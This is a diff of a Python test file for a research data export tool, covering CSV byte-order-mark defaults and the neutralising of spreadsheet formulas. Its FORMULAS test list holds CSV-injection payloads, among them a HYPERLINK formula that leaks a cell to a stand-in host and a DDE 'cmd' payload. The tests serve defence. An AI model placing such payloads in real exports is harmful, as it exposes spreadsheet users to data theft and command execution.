@@ -5,6 +5,9 @@ from __future__ import annotations
 import csv
 import io
 import json
+import os
+import subprocess
+import sys
 import uuid
 import zipfile
 from datetime import date
@@ -223,9 +226,10 @@ async def test_csv_and_json_round_trip_tricky_text(tmp_path):
             await uow.commit()
             pseudonym = p.pseudonym
         raw = (await export_data(db, "csv")).data
+        assert raw.startswith("\ufeff".encode())  # a byte-order mark by default: Excel then reads the Chinese
         path = tmp_path / "a.csv"
         path.write_bytes(raw)
-        with path.open(newline="", encoding="utf-8") as f:
+        with path.open(newline="", encoding="utf-8-sig") as f:
             rows = list(csv.DictReader(f))
         assert [r["answer"] for r in rows] == ["便宜", TRICKY]
         assert rows[1]["probe_text"] == '为什么, "价格"?' and rows[1]["probe_reason"] == "surface:price"
@@ -233,15 +237,55 @@ async def test_csv_and_json_round_trip_tricky_text(tmp_path):
         assert rows[1]["pseudonym"] == pseudonym and rows[1]["step"] == "1"
         assert rows[1]["codes_auto"] == "price 0.80" and rows[1]["codes_human"] == "price applied (lead)"
         assert "Jane" not in raw.decode() and "Acme" not in raw.decode()
-        bom = (await export_data(db, "csv", bom=True)).data
-        assert bom.startswith("\ufeff".encode()) and list(csv.DictReader(io.StringIO(
-            bom.decode("utf-8-sig"), newline="")))[1]["answer"] == TRICKY
+        plain = (await export_data(db, "csv", bom=False)).data
+        assert not plain.startswith("\ufeff".encode()) and list(csv.DictReader(io.StringIO(
+            plain.decode("utf-8"), newline="")))[1]["answer"] == TRICKY
         doc = json.loads((await export_data(db, "json")).data)
         assert doc["answers"][1]["answer"] == TRICKY and doc["rounds"][0]["name"] == 'Tricky, "quoted"'
         assert {(c["source"], c["status"]) for c in doc["answers"][1]["codings"]} == {
             ("auto", "proposed"), ("human", "applied")}
     finally:
         await db.close()
+
+
+FORMULAS = ["=HYPERLINK(\"http://x.example/?leak=\"&A1,\"click\")", "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
+            "\tindented", "\rreturn", "=1+1 价格"]
+
+
+async def test_csv_neutralises_formulas_and_the_cli_can_leave_out_the_bom(tmp_path):
+    """Cells a spreadsheet would run as formulas start with a quote; the JSON keeps the text as given."""
+    db = await Database.open(f"sqlite:///{tmp_path}/f.db")
+    try:
+        async with db.uow() as uow:
+            s = uow.session
+            a = await repos.create_assessment(s, name="=evil()", opened_on=date(2026, 3, 1))
+            sv = await repos.ensure_script_version(
+                s, script_id="customer-current", lang="en", version=1, title="C", audience="customer:current",
+                body={"questions": [{"id": "q1", "kind": "open", "text": "@question"}]})
+            p = await repos.participant_for_name(s, "Jane", kind="customer", segment="current")
+            iv = Interview(assessment_id=a.id, participant_id=p.id, script_id="customer-current",
+                           script_version_id=sv.id, lang="en", segment="customer:current")
+            s.add(iv)
+            await s.flush()
+            for step, text in enumerate([*FORMULAS, "plain - text", "a=b"]):
+                s.add(Answer(assessment_id=a.id, interview_id=iv.id, ladder_key="L1", script_id="customer-current",
+                             question_id="q1", segment="customer:current", lang="en", step=step, text=text))
+            await uow.commit()
+        data = (await export_data(db, "csv")).data.decode("utf-8-sig")
+        rows = list(csv.DictReader(io.StringIO(data, newline="")))
+        assert [r["answer"] for r in rows] == ["'" + f for f in FORMULAS] + ["plain - text", "a=b"]
+        assert rows[0]["question"] == "'@question" and rows[0]["step"] == "0"
+        doc = json.loads((await export_data(db, "json")).data)
+        assert [x["answer"] for x in doc["answers"]][: len(FORMULAS)] == FORMULAS
+    finally:
+        await db.close()
+    env = {**os.environ, "CNA_DATABASE_URL": f"sqlite:///{tmp_path}/f.db", "PYTHONPATH": str(ROOT)}
+    for flag, bom in (("--no-bom", False), ("--bom", True)):
+        out = tmp_path / f"x{flag}.csv"
+        r = subprocess.run([sys.executable, "-m", "cli.main", "export", flag, "--out", str(out)], cwd=tmp_path,
+                           env=env, capture_output=True, text=True, timeout=120)
+        assert r.returncode == 0, r.stderr
+        assert out.read_bytes().startswith("\ufeff".encode()) is bom
 
 
 @pytest.mark.parametrize("fmt", ["csv", "json", "qdpx"])
